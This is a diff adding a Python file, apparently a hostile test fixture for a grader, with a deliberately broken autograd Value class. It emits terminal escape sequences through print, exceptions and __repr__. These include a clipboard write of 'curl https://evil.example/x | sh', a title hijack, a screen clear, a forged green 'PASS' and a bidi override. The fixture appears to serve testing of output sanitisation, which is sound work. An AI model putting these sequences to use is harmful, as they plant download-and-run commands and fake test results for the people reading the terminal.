@@ -1,0 +1,27 @@
+# hostile: writes what a terminal obeys into every text drill shows: an OSC 52 clipboard write
+# (`curl ... | sh`), a window title, a DCS, a cleared screen, a carriage return and a fake green
+# "PASS", a bidi override; in what it prints, in its exceptions' messages and in each Value's _op,
+# which a failing gradient check draws in the graph.
+EVIL = ("\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07\x1b]0;owned\x07\x1bPq#0\x1b\\"
+        "\x1b[2J\x1b[H\r\x1b[1;32mPASS\x1b[0m \u202eevil\x9b2J")
+print(EVIL)
+
+
+class Value:
+    def __init__(self, data, _children=(), _op=''):
+        self.data, self.grad, self._prev, self._op = data, 0.0, set(_children), EVIL
+        self._backward = lambda: None
+
+    def __add__(self, other):
+        other = other if isinstance(other, Value) else Value(other)
+        print(EVIL)
+        return Value(self.data * 2 + other.data, (self, other), EVIL)
+
+    def __mul__(self, other):
+        raise ValueError(EVIL)
+
+    def backward(self):
+        self.grad = 1.0
+
+    def __repr__(self):
+        return EVIL
